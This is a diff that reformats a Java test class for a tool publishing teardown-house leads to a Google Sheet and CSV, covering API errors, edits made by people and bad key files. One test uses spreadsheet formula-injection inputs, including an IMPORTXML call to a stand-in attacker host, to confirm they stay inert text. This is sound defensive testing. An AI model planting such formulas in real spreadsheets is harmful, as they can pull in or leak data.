@@ -46,8 +46,22 @@ class PublishTest {
     private static final ObjectMapper JSON = new ObjectMapper();
     private static final LocalDate MONDAY = LocalDate.of(2026, 11, 23);
     private static final LocalDate TUESDAY = MONDAY.plusDays(1);
-    private static final List<String> HEADER = List.of("Date", "Address", "Price", "Lot size", "Year built", "Label",
-            "Confidence", "Snippet", "Link", "Source", "Status", "Model", "Key", "Verdict", "Notes");
+    private static final List<String> HEADER = List.of(
+            "Date",
+            "Address",
+            "Price",
+            "Lot size",
+            "Year built",
+            "Label",
+            "Confidence",
+            "Snippet",
+            "Link",
+            "Source",
+            "Status",
+            "Model",
+            "Key",
+            "Verdict",
+            "Notes");
 
     @TempDir
     Path folder;
@@ -88,7 +102,8 @@ class PublishTest {
     }
 
     private JsonNode tab(JsonNode document) {
-        for (JsonNode tab : document.path("spreadsheets").path(Sandbox.SPREADSHEET).path("tabs")) {
+        for (JsonNode tab :
+                document.path("spreadsheets").path(Sandbox.SPREADSHEET).path("tabs")) {
             if (tab.path("title").asText().equals("Leads")) {
                 return tab;
             }
@@ -110,16 +125,20 @@ class PublishTest {
 
     private List<RequestLog.Entry> calls(String part) {
         return morning.google().requests().entries("sheets").stream()
-                .filter(call -> (call.method() + " " + call.path()).contains(part)).toList();
+                .filter(call -> (call.method() + " " + call.path()).contains(part))
+                .toList();
     }
 
     private static SearchService.Result[] homes(int from, int to) {
-        return IntStream.rangeClosed(from, to).mapToObj(n -> home(n, "teardown")).toArray(SearchService.Result[]::new);
+        return IntStream.rangeClosed(from, to)
+                .mapToObj(n -> home(n, "teardown"))
+                .toArray(SearchService.Result[]::new);
     }
 
     @Test
     void the_tab_is_made_gets_a_header_and_one_row_a_lead() {
-        morning.withSheet().finds(home(1, "teardown, built in 1948, 0.3 acre lot"), home(2, "charming"), home(3, "teardown"));
+        morning.withSheet()
+                .finds(home(1, "teardown, built in 1948, 0.3 acre lot"), home(2, "charming"), home(3, "teardown"));
         morning.models.withLogprobs(-0.25);
 
         Workplace.Result result = morning.daily();
@@ -130,15 +149,27 @@ class PublishTest {
         assertThat(rows).hasSize(3);
         assertThat(rows.get(0)).isEqualTo(HEADER);
         assertThat(tab(document()).path("frozenRowCount").asInt()).isEqualTo(1);
-        assertThat(rows.get(1).subList(1, 13)).containsExactly("1 Example St, Newton, MA 02458", "700001", "0.3 acres", "1948",
-                YES, "0.779", "For sale: $700001, 3 beds, 1 bath house, teardown, built in 1948, 0.3 acre lot",
-                "https://www.zillow.com/homedetails/1-Example-St-Newton-MA-02458/1_zpid/", "zillow", "for_sale", "gpt-6-luna",
-                "1 example st newton ma");
+        assertThat(rows.get(1).subList(1, 13))
+                .containsExactly(
+                        "1 Example St, Newton, MA 02458",
+                        "700001",
+                        "0.3 acres",
+                        "1948",
+                        YES,
+                        "0.779",
+                        "For sale: $700001, 3 beds, 1 bath house, teardown, built in 1948, 0.3 acre lot",
+                        "https://www.zillow.com/homedetails/1-Example-St-Newton-MA-02458/1_zpid/",
+                        "zillow",
+                        "for_sale",
+                        "gpt-6-luna",
+                        "1 example st newton ma");
         assertThat(rows.get(1).get(0)).matches("\\d{4}-\\d{2}-\\d{2}");
         assertThat(tab(document()).path("rows").get(1).get(2).isNumber()).isTrue();
         assertThat(rows.get(1).subList(13, rows.get(1).size())).allMatch(String::isEmpty);
-        assertThat(calls(":append")).singleElement()
-                .satisfies(call -> assertThat(call.query()).contains("valueInputOption=RAW", "insertDataOption=INSERT_ROWS"));
+        assertThat(calls(":append"))
+                .singleElement()
+                .satisfies(call ->
+                        assertThat(call.query()).contains("valueInputOption=RAW", "insertDataOption=INSERT_ROWS"));
     }
 
     @Test
@@ -157,35 +188,59 @@ class PublishTest {
     }
 
     private int writes() {
-        return (int) morning.google().requests().entries("sheets").stream().filter(call -> !call.method().equals("GET")).count();
+        return (int) morning.google().requests().entries("sheets").stream()
+                .filter(call -> !call.method().equals("GET"))
+                .count();
     }
 
-    @FaultCase(where = FaultCase.Where.SEARCH, fault = "Texts that are formulas",
+    @FaultCase(
+            where = FaultCase.Where.SEARCH,
+            fault = "Texts that are formulas",
             then = "text in the sheet, quoted in the CSV file")
     @Test
     void texts_that_look_like_formulas_stay_texts_in_sheet_and_csv() throws IOException {
         String formula = "=IMPORTXML(\"http://evil.example\",\"//a\") teardown";
-        morning.withSheet().finds(new SearchService.Result(home(1, "").title(), home(1, "").link(), formula),
-                new SearchService.Result(home(2, "").title(), home(2, "").link(), "+1 teardown, \"quoted\", two\nlines"),
-                new SearchService.Result(home(3, "").title(), home(3, "").link(), "@SUM(1) teardown"),
-                new SearchService.Result(home(4, "").title(), home(4, "").link(), "-2+3 teardown"));
+        morning.withSheet()
+                .finds(
+                        new SearchService.Result(
+                                home(1, "").title(), home(1, "").link(), formula),
+                        new SearchService.Result(
+                                home(2, "").title(), home(2, "").link(), "+1 teardown, \"quoted\", two\nlines"),
+                        new SearchService.Result(
+                                home(3, "").title(), home(3, "").link(), "@SUM(1) teardown"),
+                        new SearchService.Result(
+                                home(4, "").title(), home(4, "").link(), "-2+3 teardown"));
 
         assertThat(morning.daily().code()).isZero();
 
         assertThat(sheet().stream().map(row -> row.get(7)).toList()).contains(formula);
-        assertThat(calls(":append")).singleElement()
+        assertThat(calls(":append"))
+                .singleElement()
                 .satisfies(call -> assertThat(call.query()).contains("valueInputOption=RAW"));
-        assertThat(morning.rows("select snippet from property_scans")).extracting(row -> row.get("snippet")).contains(formula);
+        assertThat(morning.rows("select snippet from property_scans"))
+                .extracting(row -> row.get("snippet"))
+                .contains(formula);
         List<String> lines = Files.readAllLines(csv());
-        assertThat(lines.get(0)).isEqualTo("Date,Address,Price,Lot size,Year built,Label,Confidence,Snippet,Link,Source,"
-                + "Status,Model,Key");
-        assertThat(lines).hasSize(5).filteredOn(line -> line.contains(",\"=") || line.contains(",=") || line.contains(",+")
-                || line.contains(",\"+") || line.contains(",@") || line.contains(",-")).isEmpty();
-        assertThat(String.join("\n", lines)).contains("'=IMPORTXML(\"\"http://evil.example\"\"", "'+1 teardown, \"\"quoted\"\"",
-                "'@SUM(1)", "'-2+3");
+        assertThat(lines.get(0))
+                .isEqualTo("Date,Address,Price,Lot size,Year built,Label,Confidence,Snippet,Link,Source,"
+                        + "Status,Model,Key");
+        assertThat(lines)
+                .hasSize(5)
+                .filteredOn(line -> line.contains(",\"=")
+                        || line.contains(",=")
+                        || line.contains(",+")
+                        || line.contains(",\"+")
+                        || line.contains(",@")
+                        || line.contains(",-"))
+                .isEmpty();
+        assertThat(String.join("\n", lines))
+                .contains(
+                        "'=IMPORTXML(\"\"http://evil.example\"\"", "'+1 teardown, \"\"quoted\"\"", "'@SUM(1)", "'-2+3");
     }
 
-    @FaultCase(where = FaultCase.Where.SHEET, fault = "A person sorts, inserts and annotates rows",
+    @FaultCase(
+            where = FaultCase.Where.SHEET,
+            fault = "A person sorts, inserts and annotates rows",
             then = "each lead is found by its key; the cells of the person stay")
     @Test
     void a_changed_lead_is_found_wherever_a_person_put_its_row_and_the_persons_cells_stay() {
@@ -208,14 +263,25 @@ class PublishTest {
                 return sorted;
             });
 
-            morning.finds(home(1, "teardown"), home(2, 555_000, "teardown, price cut"), home(3, "teardown"),
-                    home(4, 444_000, "charming after all"), home(5, "teardown"));
-            assertThat(Morning.run(runtime, "tuesday", TUESDAY)).extracting("state").isEqualTo("succeeded");
+            morning.finds(
+                    home(1, "teardown"),
+                    home(2, 555_000, "teardown, price cut"),
+                    home(3, "teardown"),
+                    home(4, 444_000, "charming after all"),
+                    home(5, "teardown"));
+            assertThat(Morning.run(runtime, "tuesday", TUESDAY))
+                    .extracting("state")
+                    .isEqualTo("succeeded");
         }
         List<List<String>> rows = sheet();
-        assertThat(rows.stream().filter(row -> row.size() > 12).map(row -> row.get(12))).containsExactlyInAnyOrder("Key",
-                "4 example st newton ma", "3 example st newton ma", "2 example st newton ma", "1 example st newton ma",
-                "5 example st newton ma");
+        assertThat(rows.stream().filter(row -> row.size() > 12).map(row -> row.get(12)))
+                .containsExactlyInAnyOrder(
+                        "Key",
+                        "4 example st newton ma",
+                        "3 example st newton ma",
+                        "2 example st newton ma",
+                        "1 example st newton ma",
+                        "5 example st newton ma");
         for (int number = 1; number <= 4; number++) {
             String address = number + " Example St, Newton, MA 02458";
             assertThat(row(rows, address).subList(13, 15)).containsExactly("verdict on " + address, "seen it");
@@ -226,14 +292,20 @@ class PublishTest {
         assertThat(row(rows, "1 Example St, Newton, MA 02458").get(2)).isEqualTo("700001");
         assertThat(rows).anyMatch(row -> !row.isEmpty() && row.get(0).equals("call the broker"));
         assertThat(calls("batchUpdate")).hasSize(2);
-        assertThat(morning.rows("select 1 from deliveries where kind = 'sheet'")).hasSize(5);
+        assertThat(morning.rows("select 1 from deliveries where kind = 'sheet'"))
+                .hasSize(5);
     }
 
     private static List<String> row(List<List<String>> rows, String address) {
-        return rows.stream().filter(row -> row.size() > 1 && row.get(1).equals(address)).findFirst().orElseThrow();
+        return rows.stream()
+                .filter(row -> row.size() > 1 && row.get(1).equals(address))
+                .findFirst()
+                .orElseThrow();
     }
 
-    @FaultCase(where = FaultCase.Where.SHEET, fault = "A person deletes a row",
+    @FaultCase(
+            where = FaultCase.Where.SHEET,
+            fault = "A person deletes a row",
             then = "it comes back only when its lead changes")
     @Test
     void a_row_that_a_person_deleted_comes_back_only_when_its_lead_changes() {
@@ -250,7 +322,8 @@ class PublishTest {
         assertThat(sheet()).hasSize(4);
         assertThat(row(sheet(), "2 Example St, Newton, MA 02458").get(2)).isEqualTo("500000");
         assertThat(calls(":append")).hasSize(2);
-        assertThat(morning.rows("select 1 from deliveries where kind = 'sheet'")).hasSize(3);
+        assertThat(morning.rows("select 1 from deliveries where kind = 'sheet'"))
+                .hasSize(3);
     }
 
     /** Google, with something between that may lose what it answers. */
@@ -265,8 +338,8 @@ class PublishTest {
 
     private static Answer forward(HttpClient client, String target, ApiRequest request, UnaryOperator<Answer> change)
             throws Exception {
-        HttpRequest.Builder forwarded = HttpRequest.newBuilder(URI.create(
-                        target + request.path() + (request.query() == null ? "" : "?" + request.query())))
+        HttpRequest.Builder forwarded = HttpRequest.newBuilder(
+                        URI.create(target + request.path() + (request.query() == null ? "" : "?" + request.query())))
                 .method(request.method(), HttpRequest.BodyPublishers.ofByteArray(request.body()))
                 .header("Authorization", request.header("authorization"));
         if (request.headers().containsKey("content-type")) {
@@ -280,7 +353,9 @@ class PublishTest {
         return request.path().contains(":append") ? change.apply(answer) : answer;
     }
 
-    @FaultCase(where = FaultCase.Where.SHEET, fault = "The answer to an append is lost",
+    @FaultCase(
+            where = FaultCase.Where.SHEET,
+            fault = "The answer to an append is lost",
             then = "one append; the next run finds the rows and adds none twice")
     @Test
     void when_the_answer_to_an_append_is_lost_the_next_run_finds_the_rows_and_adds_none_twice() {
@@ -291,16 +366,22 @@ class PublishTest {
             Workplace.Result result = morning.daily();
 
             assertThat(result.code()).isEqualTo(1);
-            assertThat(result.err()).contains("publish: ").contains("nothing is lost").hasLineCount(1);
+            assertThat(result.err())
+                    .contains("publish: ")
+                    .contains("nothing is lost")
+                    .hasLineCount(1);
             assertThat(morning.row("select * from runs")).containsEntry("state", "partial");
-            assertThat(proxy.requests().stream().filter(request -> request.path().contains(":append"))).hasSize(1);
+            assertThat(proxy.requests().stream()
+                            .filter(request -> request.path().contains(":append")))
+                    .hasSize(1);
             assertThat(sheet()).hasSize(4);
             assertThat(morning.rows("select * from deliveries")).isEmpty();
 
             lossy[0] = false;
             morning.daily();
             assertThat(sheet()).hasSize(4);
-            assertThat(morning.rows("select * from deliveries where kind = 'sheet'")).hasSize(3);
+            assertThat(morning.rows("select * from deliveries where kind = 'sheet'"))
+                    .hasSize(3);
         }
     }
 
@@ -311,13 +392,20 @@ class PublishTest {
                 Arguments.of("503", Answer.json(503, "{\"error\":{\"code\":503,\"message\":\"Busy\"}}"), 1),
                 Arguments.of("502 and a page", Answer.html(502), 1),
                 Arguments.of("429", Answer.json(429, "{\"error\":{\"code\":429,\"message\":\"Quota exceeded\"}}"), 1),
-                Arguments.of("400, no room for more rows", Answer.json(400,
-                        "{\"error\":{\"code\":400,\"message\":\"This action would increase the number of cells\"}}"), 4),
-                Arguments.of("401", Answer.json(401, "{\"error\":{\"code\":401,\"message\":\"Invalid credentials\"}}"), 4),
+                Arguments.of(
+                        "400, no room for more rows",
+                        Answer.json(
+                                400,
+                                "{\"error\":{\"code\":400,\"message\":\"This action would increase the number of cells\"}}"),
+                        4),
+                Arguments.of(
+                        "401", Answer.json(401, "{\"error\":{\"code\":401,\"message\":\"Invalid credentials\"}}"), 4),
                 Arguments.of("a page", Answer.html(200), 1));
     }
 
-    @FaultCase(where = FaultCase.Where.SHEET, fault = "An append that was not done is answered with",
+    @FaultCase(
+            where = FaultCase.Where.SHEET,
+            fault = "An append that was not done is answered with",
             then = "not repeated blindly; the leads wait, and the next run writes them once")
     @ParameterizedTest(name = "{0}")
     @MethodSource("answersToAnAppend")
@@ -326,44 +414,59 @@ class PublishTest {
         morning.withSheet();
         String target = morning.google().baseUrl();
         HttpClient client = HttpClient.newHttpClient();
-        try (Loopback proxy = new Loopback(request -> answer[0] != null && request.path().contains(":append") ? answer[0]
-                : forward(client, target, request, same -> same))) {
+        try (Loopback proxy =
+                new Loopback(request -> answer[0] != null && request.path().contains(":append")
+                        ? answer[0]
+                        : forward(client, target, request, same -> same))) {
             morning.withSheetAt(proxy.url() + "/sheets/").finds(homes(1, 2));
 
             Workplace.Result result = morning.daily();
 
             assertThat(result.code()).isEqualTo(code);
             assertThat(result.err()).contains("publish: ").doesNotContain("<").hasLineCount(1);
-            assertThat(proxy.requests().stream().filter(request -> request.path().contains(":append"))).hasSize(1);
+            assertThat(proxy.requests().stream()
+                            .filter(request -> request.path().contains(":append")))
+                    .hasSize(1);
             assertThat(morning.row("select * from runs")).containsEntry("state", "partial");
             assertThat(morning.rows("select * from deliveries")).isEmpty();
 
             answer[0] = null;
             morning.daily();
             assertThat(sheet()).hasSize(3);
-            assertThat(morning.rows("select 1 from deliveries where kind = 'sheet'")).hasSize(2);
+            assertThat(morning.rows("select 1 from deliveries where kind = 'sheet'"))
+                    .hasSize(2);
         }
     }
 
-    @FaultCase(where = FaultCase.Where.SHEET, fault = "403, the sheet is not shared",
+    @FaultCase(
+            where = FaultCase.Where.SHEET,
+            fault = "403, the sheet is not shared",
             then = "asked once; the leads wait")
     @Test
     void a_sheet_that_may_not_be_written_leaves_the_leads_to_the_next_run() {
-        Answer[] refusal = {Answer.json(HttpURLConnection.HTTP_FORBIDDEN,
-                "{\"error\":{\"code\":403,\"message\":\"The caller does not have permission\",\"status\":\"PERMISSION_DENIED\"}}")};
+        Answer[] refusal = {
+            Answer.json(
+                    HttpURLConnection.HTTP_FORBIDDEN,
+                    "{\"error\":{\"code\":403,\"message\":\"The caller does not have permission\",\"status\":\"PERMISSION_DENIED\"}}")
+        };
         morning.withSheet();
         String target = morning.google().baseUrl();
         HttpClient client = HttpClient.newHttpClient();
-        try (Loopback proxy = new Loopback(request -> refusal[0] != null && request.method().equals("POST") ? refusal[0]
-                : forward(client, target, request, answer -> answer))) {
+        try (Loopback proxy =
+                new Loopback(request -> refusal[0] != null && request.method().equals("POST")
+                        ? refusal[0]
+                        : forward(client, target, request, answer -> answer))) {
             morning.withSheetAt(proxy.url() + "/sheets/").finds(homes(1, 2));
 
             Workplace.Result result = morning.daily();
 
             assertThat(result.code()).isEqualTo(4);
-            assertThat(result.err()).contains("HTTP 403, The caller does not have permission", "shared with the service account");
+            assertThat(result.err())
+                    .contains("HTTP 403, The caller does not have permission", "shared with the service account");
             assertThat(morning.row("select * from runs")).containsEntry("state", "partial");
-            assertThat(proxy.requests().stream().filter(request -> request.method().equals("POST"))).hasSize(1);
+            assertThat(proxy.requests().stream()
+                            .filter(request -> request.method().equals("POST")))
+                    .hasSize(1);
             assertThat(morning.rows("select * from deliveries")).isEmpty();
 
             refusal[0] = null;
@@ -372,7 +475,9 @@ class PublishTest {
         }
     }
 
-    @FaultCase(where = FaultCase.Where.SHEET, fault = "404, the spreadsheet is gone",
+    @FaultCase(
+            where = FaultCase.Where.SHEET,
+            fault = "404, the spreadsheet is gone",
             then = "asked once; the leads wait and are in the CSV file")
     @Test
     void a_spreadsheet_that_is_not_there_is_told_and_asked_for_once() {
@@ -381,7 +486,8 @@ class PublishTest {
         Workplace.Result result = morning.daily();
 
         assertThat(result.code()).isEqualTo(4);
-        assertThat(result.err()).contains("HTTP 404, Requested entity was not found.", "check that the spreadsheet is there");
+        assertThat(result.err())
+                .contains("HTTP 404, Requested entity was not found.", "check that the spreadsheet is there");
         assertThat(morning.google().requests().entries("sheets")).hasSize(1);
         assertThat(csv()).exists();
         assertThat(morning.row("select * from runs")).containsEntry("state", "partial");
@@ -391,7 +497,9 @@ class PublishTest {
         assertThat(sheet()).hasSize(2);
     }
 
-    @FaultCase(where = FaultCase.Where.SHEET, fault = "A person deletes the tab",
+    @FaultCase(
+            where = FaultCase.Where.SHEET,
+            fault = "A person deletes the tab",
             then = "told; no other is made; the leads wait until it is there again, or an empty one")
     @Test
     void a_tab_that_a_person_deleted_is_missed_and_not_made_again() {
@@ -399,7 +507,8 @@ class PublishTest {
         assertThat(morning.daily().code()).isZero();
         ObjectNode before = document();
         ObjectNode without = document();
-        ArrayNode tabs = (ArrayNode) without.path("spreadsheets").path(Sandbox.SPREADSHEET).path("tabs");
+        ArrayNode tabs = (ArrayNode)
+                without.path("spreadsheets").path(Sandbox.SPREADSHEET).path("tabs");
         tabs.removeIf(tab -> tab.path("title").asText().equals("Leads"));
         Workplace.write(morning.sheetFile(), without.toPrettyString());
         morning.finds(homes(1, 3));
@@ -408,16 +517,20 @@ class PublishTest {
         Workplace.Result result = morning.daily();
 
         assertThat(result.code()).isEqualTo(1);
-        assertThat(result.err()).contains("the tab Leads with the leads is gone", "an empty tab of that name").hasLineCount(1);
+        assertThat(result.err())
+                .contains("the tab Leads with the leads is gone", "an empty tab of that name")
+                .hasLineCount(1);
         assertThat(writes()).isEqualTo(writes);
         assertThat(morning.row("select * from runs order by id desc limit 1")).containsEntry("state", "partial");
-        assertThat(morning.rows("select 1 from deliveries where kind = 'sheet'")).hasSize(2);
+        assertThat(morning.rows("select 1 from deliveries where kind = 'sheet'"))
+                .hasSize(2);
 
         Workplace.write(morning.sheetFile(), before.toPrettyString());
         morning.daily();
         assertThat(sheet()).hasSize(4);
         assertThat(sheet().stream().map(row -> row.get(12))).doesNotHaveDuplicates();
-        assertThat(morning.rows("select 1 from deliveries where kind = 'sheet'")).hasSize(3);
+        assertThat(morning.rows("select 1 from deliveries where kind = 'sheet'"))
+                .hasSize(3);
     }
 
     static Stream<Arguments> keyFiles() {
@@ -426,11 +539,15 @@ class PublishTest {
                 Arguments.of("a key and nothing else", line),
                 Arguments.of("half a document", "{\"type\":\"service_account\",\"private_key\":\"" + line),
                 Arguments.of("no quotation marks", "{\"type\":\"service_account\",\"private_key\":" + line + "}"),
-                Arguments.of("a key that is none", "{\"type\":\"service_account\",\"client_id\":\"1\",\"client_email\":\"a@b\","
-                        + "\"private_key_id\":\"1\",\"private_key\":\"" + line + "\"}"));
+                Arguments.of(
+                        "a key that is none",
+                        "{\"type\":\"service_account\",\"client_id\":\"1\",\"client_email\":\"a@b\","
+                                + "\"private_key_id\":\"1\",\"private_key\":\"" + line + "\"}"));
     }
 
-    @FaultCase(where = FaultCase.Where.CONFIGURATION, fault = "A Google key file that holds",
+    @FaultCase(
+            where = FaultCase.Where.CONFIGURATION,
+            fault = "A Google key file that holds",
             then = "exit code 2 and one line that names the file and shows nothing of it; nobody is asked")
     @ParameterizedTest(name = "{0}")
     @MethodSource("keyFiles")
@@ -442,7 +559,10 @@ class PublishTest {
         Workplace.Result result = morning.daily();
 
         assertThat(result.code()).isEqualTo(2);
-        assertThat(result.err()).contains("bad-key.json", "GOOGLE_APPLICATION_CREDENTIALS").doesNotContain("MIIEv").hasLineCount(1);
+        assertThat(result.err())
+                .contains("bad-key.json", "GOOGLE_APPLICATION_CREDENTIALS")
+                .doesNotContain("MIIEv")
+                .hasLineCount(1);
         assertThat(Workplace.read(morning.place.log())).doesNotContain("MIIEv");
         assertThat(morning.search.requests()).isEmpty();
         assertThat(morning.rows("select * from runs")).isEmpty();
@@ -456,7 +576,9 @@ class PublishTest {
         String target = morning.google().baseUrl();
         HttpClient client = HttpClient.newHttpClient();
         try (Loopback proxy = new Loopback(request -> busy[0]-- > 0
-                ? Answer.json(429, "{\"error\":{\"code\":429,\"message\":\"Quota exceeded\",\"status\":\"RESOURCE_EXHAUSTED\"}}")
+                ? Answer.json(
+                        429,
+                        "{\"error\":{\"code\":429,\"message\":\"Quota exceeded\",\"status\":\"RESOURCE_EXHAUSTED\"}}")
                 : forward(client, target, request, answer -> answer))) {
             morning.withSheetAt(proxy.url() + "/sheets/").finds(homes(1, 2));
 
@@ -465,7 +587,8 @@ class PublishTest {
             assertThat(result.err()).isEmpty();
             assertThat(sheet()).hasSize(3);
             assertThat(calls(":append")).hasSize(1);
-            assertThat(morning.rows("select 1 from deliveries where kind = 'sheet'")).hasSize(2);
+            assertThat(morning.rows("select 1 from deliveries where kind = 'sheet'"))
+                    .hasSize(2);
         }
     }
 
@@ -476,14 +599,16 @@ class PublishTest {
         morning.place.execute("with recursive n(i) as (select 2 union all select i + 1 from n where i < 1201)"
                 + " insert into property_scans (address, snippet, price, status, source, link, property_key, fingerprint, classified_fingerprint,"
                 + " classification, label_source, first_seen) select i || ' Mass Ave', 'teardown', i, 'for_sale', 'zillow',"
-                + " 'https://example.com/' || i, i || ' mass ave', 'f' || i, 'f' || i, '" + YES + "', 'model', '2026-11-01' from n");
+                + " 'https://example.com/' || i, i || ' mass ave', 'f' || i, 'f' || i, '" + YES
+                + "', 'model', '2026-11-01' from n");
 
         morning.daily();
 
         assertThat(sheet()).hasSize(1202);
         assertThat(sheet().stream().map(row -> row.get(12))).doesNotHaveDuplicates();
         assertThat(calls(":append")).hasSize(1 + 3);
-        assertThat(morning.rows("select 1 from deliveries where kind = 'sheet'")).hasSize(1201);
+        assertThat(morning.rows("select 1 from deliveries where kind = 'sheet'"))
+                .hasSize(1201);
     }
 
     @Test
@@ -498,7 +623,9 @@ class PublishTest {
         assertThat(result.out()).contains("2 leads in Newton, MA", "All leads are in " + csv());
     }
 
-    @FaultCase(where = FaultCase.Where.MACHINE, fault = "leads.csv cannot be replaced",
+    @FaultCase(
+            where = FaultCase.Where.MACHINE,
+            fault = "leads.csv cannot be replaced",
             then = "told; whole at the next run")
     @Test
     void the_file_is_replaced_whole_or_stays_as_it_was() throws IOException {
